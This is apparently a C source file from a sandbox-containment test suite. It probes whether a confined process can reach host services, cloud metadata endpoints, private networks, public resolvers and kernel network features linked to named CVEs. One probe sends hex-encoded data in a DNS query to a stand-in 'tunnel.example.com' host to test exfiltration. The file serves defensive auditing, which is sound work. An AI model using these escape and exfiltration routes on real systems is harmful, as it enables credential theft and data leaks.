/* The network: whatever answers that is not of our own box got through. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "probe/probe.h"

#define WAIT_MS      1500
#define DIALS_MAX    256
#define TCP_ULP_     31
#define UDP_ENCAP_   100
#define NETLINK_     16
#define MESSAGE_SIZE 64
#define TEXT(s)      ((long)(intptr_t)(s))
#define OWN_NET      "gVisor's network stack is its own"

union address {
	struct sockaddr any;
	struct sockaddr_in v4;
	struct sockaddr_in6 v6;
};

static socklen_t address(union address *to, const char *text, int port)
{
	*to = (union address){ 0 };
	if (inet_pton(AF_INET, text, &to->v4.sin_addr) == 1) {
		to->v4.sin_family = AF_INET;
		to->v4.sin_port = htons((uint16_t)port);
		return sizeof(to->v4);
	}
	if (inet_pton(AF_INET6, text, &to->v6.sin6_addr) != 1)
		return 0;
	to->v6.sin6_family = AF_INET6;
	to->v6.sin6_port = htons((uint16_t)port);
	to->v6.sin6_scope_id = 2;
	return sizeof(to->v6);
}

/* A question for a name, of this type. */
static size_t question(uint8_t *out, const char *name, int type)
{
	static const uint8_t head[12] = { 0xbe, 0xee, 1, 0, 0, 1 };
	size_t at = sizeof(head);

	memcpy(out, head, sizeof(head));
	while (*name) {
		size_t len = strcspn(name, ".");

		out[at++] = (uint8_t)len;
		memcpy(out + at, name, len);
		at += len;
		name += len + (name[len] == '.');
	}
	out[at++] = 0;
	out[at++] = 0;
	out[at++] = (uint8_t)type;
	out[at++] = 0;
	out[at++] = 1;
	return at;
}

/* Many connections at once. */
struct dials {
	size_t count;
	struct pollfd polls[DIALS_MAX];
	int ports[DIALS_MAX];
	char names[DIALS_MAX][64];
};

static void dial(struct dials *d, const char *text, int port)
{
	union address to;
	socklen_t len = address(&to, text, port);
	int s = len ? socket(to.any.sa_family, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0) : -1;

	if (s < 0 || d->count == DIALS_MAX)
		return;
	if (connect(s, &to.any, len) < 0 && errno != EINPROGRESS) {
		close(s);
		return;
	}
	d->polls[d->count] = (struct pollfd){ .fd = s, .events = POLLOUT };
	d->ports[d->count] = port;
	snprintf(d->names[d->count++], sizeof(d->names[0]), "%s port %d", text, port);
}

/* The first word of ours, to have it speak. */
static void greet(int s, int port)
{
	static const char request[] = "GET / HTTP/1.0\r\n\r\n";
	uint8_t message[512] = { 0 };

	if (port == 53) {
		size_t len = question(message + 2, "example.com", 1);

		message[1] = (uint8_t)len;
		(void)!write(s, message, len + 2);
	} else {
		(void)!write(s, request, sizeof(request) - 1);
	}
}

/*
 * A connection is nothing yet: the host takes them all, and then looks. One that says something
 * is, unless it is that it is not allowed, or a name that is not known.
 */
static bool speaks(int s, int port)
{
	char said[1024] = "";
	ssize_t n = recv(s, said, sizeof(said) - 1, MSG_DONTWAIT);

	if (port == 53)
		return n > 14 && (said[8] || said[9]); /* an answer with records in it */
	return n > 0 && !strstr(said, "network policy does not allow");
}

static bool look_at(struct pollfd *p, int port)
{
	int why = 0;
	socklen_t len = sizeof(why);

	if (p->events == POLLOUT && (p->revents & POLLOUT)) {
		getsockopt(p->fd, SOL_SOCKET, SO_ERROR, &why, &len);
		if (why == 0) {
			greet(p->fd, port);
			p->events = POLLIN;
			return false;
		}
	} else if (p->revents & POLLIN && speaks(p->fd, port)) {
		return true;
	}
	p->fd = -1;
	return false;
}

static long answered(struct attempt *a, struct dials *d)
{
	for (int left = 2 * WAIT_MS; left > 0; left -= 100) {
		if (poll(d->polls, d->count, 100) < 0)
			break;
		for (size_t i = 0; i < d->count; i++)
			if (d->polls[i].revents && look_at(&d->polls[i], d->ports[i]))
				return probe_say(a, 0, "%s answers", d->names[i]);
	}
	return probe_say(a, probe_refused(ENETUNREACH), "nothing answers");
}

static long dial_list(struct attempt *a, const char *const *hosts, size_t count, const int *ports,
		      size_t port_count)
{
	static struct dials d;

	for (size_t i = 0; i < count; i++)
		for (size_t k = 0; k < port_count; k++)
			dial(&d, hosts[i], ports[k]);
	return answered(a, &d);
}

/* All addresses of the host and the neighbour, and where our own way out begins. */
static size_t known_hosts(const struct target *t, const char *hosts[PROBE_ADDRESSES + 1])
{
	static char gateway[INET_ADDRSTRLEN];
	FILE *f = fopen("/proc/net/route", "re");
	char line[256];
	size_t n = 0;

	while (n < PROBE_ADDRESSES && t->addresses[n][0]) {
		hosts[n] = t->addresses[n];
		n++;
	}
	while (f && fgets(line, sizeof(line), f)) {
		struct in_addr in;
		unsigned to, by;

		if (sscanf(line, "%*s %x %x", &to, &by) == 2 && by) {
			in.s_addr = by;
			inet_ntop(AF_INET, &in, gateway, sizeof(gateway));
		}
	}
	if (f)
		fclose(f);
	if (gateway[0])
		hosts[n++] = gateway;
	return n;
}

static long dial_known(struct attempt *a, const int *ports, size_t count)
{
	const char *hosts[PROBE_ADDRESSES + 1];

	return dial_list(a, hosts, known_hosts(a->target, hosts), ports, count);
}

static long try_host_tcp(struct attempt *a)
{
	return dial_known(a, &a->target->port, 1);
}

static long try_host_api(struct attempt *a)
{
	return dial_known(a, &a->target->api, 1);
}

static long try_host_services(struct attempt *a)
{
	static const int ports[] = { 22, 25, 80, 111, 443, 2375, 5432, 6443, 7070, 8080, 10250 };

	return dial_known(a, ports, array_len(ports));
}

static long try_metadata(struct attempt *a)
{
	static const char *const hosts[] = { "169.254.169.254", "169.254.170.2", "100.100.100.200",
					     "168.63.129.16", "fd00:ec2::254" };
	static const int ports[] = { 80 };

	return dial_list(a, hosts, array_len(hosts), ports, 1);
}

static long try_private(struct attempt *a)
{
	static const char *const hosts[] = { "10.0.0.1", "10.0.2.2", "172.16.0.1",
					     "172.17.0.1", "192.168.0.1", "192.168.1.1",
					     "192.168.122.1", "100.64.0.1" };
	static const int ports[] = { 22, 53, 80, 443 };

	return dial_list(a, hosts, array_len(hosts), ports, array_len(ports));
}

static long try_raw_ip(struct attempt *a)
{
	static const char *const hosts[] = { "1.1.1.1", "8.8.8.8", "9.9.9.9", "93.184.215.14" };
	static const int ports[] = { 80, 443 };

	return dial_list(a, hosts, array_len(hosts), ports, array_len(ports));
}

static long try_dns_over(struct attempt *a)
{
	static const char *const hosts[] = { "1.1.1.1", "8.8.8.8", "9.9.9.9" };
	static const int ports[] = { 53, 853, 443 };

	return dial_list(a, hosts, array_len(hosts), ports, array_len(ports));
}

static long try_ipv6(struct attempt *a)
{
	static const char *const hosts[] = { "2606:4700:4700::1111", "2001:4860:4860::8888",
					     "fe80::1", "fd00::1" };
	static const int ports[] = { 53, 80, 443 };

	return dial_list(a, hosts, array_len(hosts), ports, array_len(ports));
}

/* Datagrams to all of these; does one come back that says more than no? */
static long ask(struct attempt *a, const char *const *hosts, size_t count, int port,
		const uint8_t *message, size_t len)
{
	static uint8_t answer[2048];
	struct pollfd p[PROBE_ADDRESSES + 1];
	int on = 1;
	size_t n = 0;

	for (size_t i = 0; i < count && n < array_len(p); i++) {
		union address to;
		socklen_t size = address(&to, hosts[i], port);
		int s = size ? socket(to.any.sa_family, SOCK_DGRAM | SOCK_CLOEXEC, 0) : -1;

		if (s < 0)
			continue;
		setsockopt(s, SOL_SOCKET, SO_BROADCAST, &on, sizeof(on));
		if (sendto(s, message, len, 0, &to.any, size) > 0)
			p[n++] = (struct pollfd){ .fd = s, .events = POLLIN };
		else
			close(s);
	}
	if (n == 0)
		return -1;
	for (int left = WAIT_MS; left > 0; left -= 100) {
		if (poll(p, n, 100) <= 0)
			continue;
		for (size_t i = 0; i < n; i++) {
			ssize_t got = p[i].revents ? recv(p[i].fd, answer, sizeof(answer), 0)
						   : -1;

			/* From port 53: an answer with records in it. Otherwise: any. */
			if (got > 0 && (port != 53 || (got > 12 && (answer[6] || answer[7]))))
				return probe_say(a, 0, "something answers on port %d", port);
		}
	}
	return probe_say(a, probe_refused(ETIMEDOUT), "nothing answers");
}

static long try_host_udp(struct attempt *a)
{
	const char *hosts[PROBE_ADDRESSES + 1];

	return ask(a, hosts, known_hosts(a->target, hosts), a->target->port,
		   (const uint8_t *)"hello", 5);
}

static long try_quic(struct attempt *a)
{
	static const char *const hosts[] = { "1.1.1.1", "8.8.8.8", "142.250.0.1" };
	/* An unknown version: a server says which it knows. */
	static const uint8_t initial[1200] = { 0xc0, 0xba, 0xba, 0xba, 0xba, 8 };

	return ask(a, hosts, array_len(hosts), 443, initial, sizeof(initial));
}

/* The resolver that the box was given, and those it knows anyway. */
static long resolve(struct attempt *a, const char *name, int type)
{
	const char *hosts[8] = { "8.8.8.8", "1.1.1.1", "9.9.9.9", "127.0.0.53", "169.254.169.253" };
	size_t n = 5;
	static char given[3][64];
	FILE *f = fopen("/etc/resolv.conf", "re");
	uint8_t message[512];
	char line[256];

	while (f && n < array_len(hosts) && fgets(line, sizeof(line), f))
		if (sscanf(line, "nameserver %63s", given[n - 5]) == 1) {
			hosts[n] = given[n - 5];
			n++;
		}
	if (f)
		fclose(f);
	return ask(a, hosts, n, 53, message, question(message, name, type));
}

static long try_dns(struct attempt *a)
{
	return resolve(a, "example.com", 1);
}

static long try_dns_tunnel(struct attempt *a)
{
	return resolve(a,
		       "6265727468206365727461696e6c7920646f6573206e6f74206c65616b2e."
		       "74686973207761732061207365637265742e6e6f772069742069732e2e2e."
		       "tunnel.example.com",
		       16);
}

static long try_multicast(struct attempt *a)
{
	static const char *const hosts[] = { "224.0.0.251", "255.255.255.255", "ff02::fb" };
	uint8_t message[512];

	return ask(a, hosts, array_len(hosts), 5353, message,
		   question(message, "_services._dns-sd._udp.local", 12));
}

/* A request to route netlink that changes something; its answer is an error number. */
static long try_netlink(struct attempt *a)
{
	int s = socket(NETLINK_, SOCK_RAW | SOCK_CLOEXEC, 0);
	uint8_t message[MESSAGE_SIZE] = { 0 };
	int32_t answer[64] = { 0 };
	uint32_t len = (uint32_t)a->probe->args[1];
	uint16_t type = (uint16_t)a->probe->args[0], flags = 0x5 | 0x400; /* request, ack, create */
	struct pollfd p = { .fd = s, .events = POLLIN };

	if (s < 0)
		return -1;
	memcpy(message, &len, 4);
	memcpy(message + 4, &type, 2);
	memcpy(message + 6, &flags, 2);
	message[16] = AF_INET;
	if (send(s, message, len, 0) < 0)
		return -1;
	if (poll(&p, 1, WAIT_MS) <= 0 || recv(s, answer, sizeof(answer), 0) < 20)
		return probe_refused(EACCES);
	return answer[4] < 0 ? probe_refused(-answer[4]) : 0;
}

static long try_interface(struct attempt *a)
{
	int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	struct ifreq r = { .ifr_name = "lo" };

	(void)a;
	if (s < 0 || ioctl(s, SIOCGIFFLAGS, &r) < 0)
		return -1;
	r.ifr_flags |= IFF_PROMISC;
	return ioctl(s, SIOCSIFFLAGS, &r);
}

/* Level, option: an int of 1. */
static long try_option(struct attempt *a)
{
	const long *x = a->probe->args;
	int s = socket(AF_INET, x[2] ? SOCK_DGRAM | SOCK_CLOEXEC : SOCK_STREAM | SOCK_CLOEXEC, 0);
	int on = (int)x[3];

	return s < 0 ? -1 : setsockopt(s, (int)x[0], (int)x[1], &on, sizeof(on));
}

/* A protocol laid over TCP, by name: a module is loaded for it. */
static long try_ulp(struct attempt *a)
{
	int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	const char *name = (const char *)(intptr_t)a->probe->args[0];

	return s < 0 ? -1 : setsockopt(s, IPPROTO_TCP, TCP_ULP_, name, (socklen_t)strlen(name));
}

/* A program for every packet: its machine code is of net.core.bpf_jit_limit, the host's. */
static long try_filter(struct attempt *a)
{
	struct filter_code pass = { .code = FILTER_RETURN, .k = UINT32_MAX };
	struct filter program = { .len = 1, .code = &pass };
	int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);

	if (s < 0)
		return -1;
	return setsockopt(s, SOL_SOCKET, (int)a->probe->args[0], &program, sizeof(program));
}

/* A copy of what was sent, asked for with it: is it in the queue of errors? */
static long try_stamps(struct attempt *a)
{
	union address to;
	socklen_t len = address(&to, "127.0.0.1", 9);
	int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	char byte = 'x', seen[64];
	struct iovec sent = { &byte, 1 };
	union {
		char room[CMSG_SPACE(sizeof(int))];
		struct cmsghdr head;
	} control = { 0 };
	struct msghdr message = { .msg_name = &to,
				  .msg_namelen = len,
				  .msg_iov = &sent,
				  .msg_iovlen = 1,
				  .msg_control = control.room,
				  .msg_controllen = sizeof(control.room) };
	int which = 1 << 1 | 1 << 8; /* SOF_TIMESTAMPING_TX_SOFTWARE, TX_SCHED */

	control.head.cmsg_level = SOL_SOCKET;
	control.head.cmsg_type = SO_TIMESTAMPING;
	control.head.cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(&control.head), &which, sizeof(which));
	if (s < 0 || sendmsg(s, &message, 0) < 0)
		return -1;
	if (recv(s, seen, sizeof(seen), MSG_ERRQUEUE | MSG_DONTWAIT) >= 0)
		return probe_say(a, 0, "a copy is there");
	return probe_say(a, probe_refused(EAGAIN), "no copy is there");
}

/* clang-format off */
#define WAITS(name, stands, tries, run) { name, stands, tries, run, .slow = true }
#define JIT "a number all of the host share: net.core.bpf_jit_limit"
#define OPTION_OF(name, stands, tries, ...) \
	{ name, stands, tries, try_option, JUDGE_STRICT, OWN_NET, .args = { __VA_ARGS__ } }

const struct probe probe_net[] = {
	WAITS("host-tcp", "services of the host and the neighbour",
	  "connect to a port on all their addresses", try_host_tcp),
	WAITS("host-udp", "services of the host and the neighbour",
	  "datagrams to a port on all their addresses", try_host_udp),
	WAITS("host-api", "the control plane", "connect to berthd on all addresses of the host",
	  try_host_api),
	WAITS("host-services", "services of the host",
	  "connect to usual ports on all its addresses", try_host_services),
	WAITS("metadata", "cloud credentials", "connect to the metadata addresses", try_metadata),
	WAITS("private", "other machines of the house", "connect to private ranges", try_private),
	WAITS("raw-ip", "egress by address", "connect to addresses outside", try_raw_ip),
	WAITS("dns-over", "egress by DoT, DoH, DNS over TCP", "connect to public resolvers",
	  try_dns_over),
	WAITS("ipv6", "egress by IPv6", "connect to IPv6 addresses outside", try_ipv6),
	WAITS("quic", "egress by QUIC", "a first packet to UDP 443", try_quic),
	WAITS("dns", "egress by DNS", "resolve a name that nobody allowed", try_dns),
	WAITS("dns-tunnel", "exfiltration by DNS", "resolve a long name with data in it",
	  try_dns_tunnel),
	WAITS("multicast", "other machines of the house", "ask by mDNS and broadcast",
	  try_multicast),
	{ "new-link", "interfaces of our own: CVE-2020-14386", "make an interface", try_netlink,
	  JUDGE_STRICT, OWN_NET, .args = { 16, 32 } },
	{ "new-address", "another's address", "add an address", try_netlink, JUDGE_STRICT,
	  OWN_NET, .args = { 20, 24 } },
	{ "new-route", "another way out", "add a route", try_netlink, JUDGE_STRICT,
	  OWN_NET, .args = { 24, 28 } },
	{ "promiscuous", "other hosts' frames", "set an interface promiscuous", try_interface,
	  JUDGE_STRICT, OWN_NET },
	OPTION_OF("transparent", "another's address", "setsockopt(IP_TRANSPARENT)", IPPROTO_IP, 19,
	  0, 1),
	OPTION_OF("mark", "rules that go by mark", "setsockopt(SO_MARK)", SOL_SOCKET, 36, 0, 1),
	OPTION_OF("buffer-force", "the host's memory", "setsockopt(SO_RCVBUFFORCE)", SOL_SOCKET, 33,
	  0, 1),
	{ "socket-filter", JIT, "setsockopt(SO_ATTACH_FILTER)", try_filter, JUDGE_STRICT, OWN_NET,
	  .args = { SO_ATTACH_FILTER } },
	{ "reuseport-filter", JIT, "setsockopt(SO_ATTACH_REUSEPORT_CBPF)", try_filter,
	  JUDGE_STRICT, OWN_NET, .args = { SO_ATTACH_REUSEPORT_CBPF } },
	OPTION_OF("transmit-stamps", "memory that no cgroup counts", "setsockopt(SO_TIMESTAMPING)",
	  SOL_SOCKET, SO_TIMESTAMPING, 1, 2),
	{ "transmit-copies", "memory that no cgroup counts",
	  "sendmsg() that asks for SO_TIMESTAMPING", try_stamps, JUDGE_ANY, OWN_NET },
	OPTION_OF("udp-encapsulation", "ESP in UDP: CVE-2026-43284 (Dirty Frag)",
	  "setsockopt(UDP_ENCAP)", IPPROTO_UDP, UDP_ENCAP_, 1, 2),
	{ "tls-in-kernel", "kernel TLS: CVE-2023-0461, CVE-2025-39682", "setsockopt(TCP_ULP, tls)",
	  try_ulp, JUDGE_STRICT, OWN_NET, .args = { TEXT("tls") } },
	{ "esp-in-tcp", "ESP in TCP: CVE-2026-46300 (Fragnesia)", "setsockopt(TCP_ULP, espintcp)",
	  try_ulp, JUDGE_STRICT, OWN_NET, .args = { TEXT("espintcp") } },
	{ NULL },
};
/* clang-format on */
